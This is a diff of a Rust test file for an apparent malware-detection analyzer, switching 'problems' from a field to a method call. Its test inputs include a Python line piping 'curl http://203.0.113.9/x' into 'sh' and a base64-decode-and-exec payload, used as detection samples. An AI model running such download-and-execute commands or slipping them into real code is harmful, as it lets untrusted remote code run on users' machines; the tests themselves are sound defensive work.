@@ -41,7 +41,7 @@ fn nesting_ten_thousand_deep_is_a_problem_not_a_crash() {
     for case in cases {
         let start = case[..30].to_owned();
         let analysis = on_small_stack(case);
-        assert_eq!(analysis.problems.len(), 1, "{start}");
+        assert_eq!(analysis.problems().len(), 1, "{start}");
     }
 }
 
@@ -78,7 +78,7 @@ fn what_the_limits_admit_fits_a_small_stack() {
     for shape in shapes {
         let start = shape[..20].to_owned();
         let analysis = on_small_stack(shape);
-        assert_eq!(analysis.problems, [], "{start}");
+        assert_eq!(analysis.problems(), [], "{start}");
     }
 }
 
@@ -137,15 +137,15 @@ fn more_calls_than_are_noted_are_a_problem() {
         "a.py",
         "import os\n".to_owned() + &"os.getenv('A')\n".repeat(50_001),
     );
-    assert_eq!(analysis.problems.len(), 1);
+    assert_eq!(analysis.problems().len(), 1);
 }
 
 #[test]
 fn a_text_too_large_to_fold_that_runs_is_a_problem() {
     let analysis = analyze("a.py", "x = 'a' * 10**10\nexec(x + 'b')\n");
-    assert_eq!(analysis.problems.len(), 1);
+    assert_eq!(analysis.problems().len(), 1);
     let harmless = analyze("a.py", "x = 'a' * 10**10\nprint(x)\n");
-    assert_eq!(harmless.problems, []);
+    assert_eq!(harmless.problems(), []);
 }
 
 #[test]
@@ -162,7 +162,7 @@ fn files_that_do_not_parse_are_problems_and_analysed_all_the_same() {
             "demo/a.py",
             format!("{code}\nimport os\nos.system('curl http://203.0.113.9/x | sh')\n"),
         );
-        assert_eq!(analysis.problems.len(), 1, "{code}");
+        assert_eq!(analysis.problems().len(), 1, "{code}");
         assert!(
             severity(&analysis, "python-shell-download-run").is_some(),
             "{code}"
@@ -176,7 +176,7 @@ fn unparsable_payloads_are_seen_in_the_text() {
         "a.py",
         "((((exec(base64.b64decode('x'))\n".to_owned() + &"(".repeat(500),
     );
-    assert_eq!(analysis.problems.len(), 1);
+    assert_eq!(analysis.problems().len(), 1);
     assert!(severity(&analysis, "python-unparsed-payload").is_some());
 }
 
@@ -205,7 +205,7 @@ fn scripts_are_told_by_their_first_line_and_stubs_are_left_alone() {
         severity(&analyze("bin/tool", &code[3..]), "python-decode-exec"),
         None
     );
-    assert_eq!(analyze("demo/a.pyi", "def f(: ...").problems, []);
+    assert_eq!(analyze("demo/a.pyi", "def f(: ...").problems(), []);
 }
 
 proptest! {
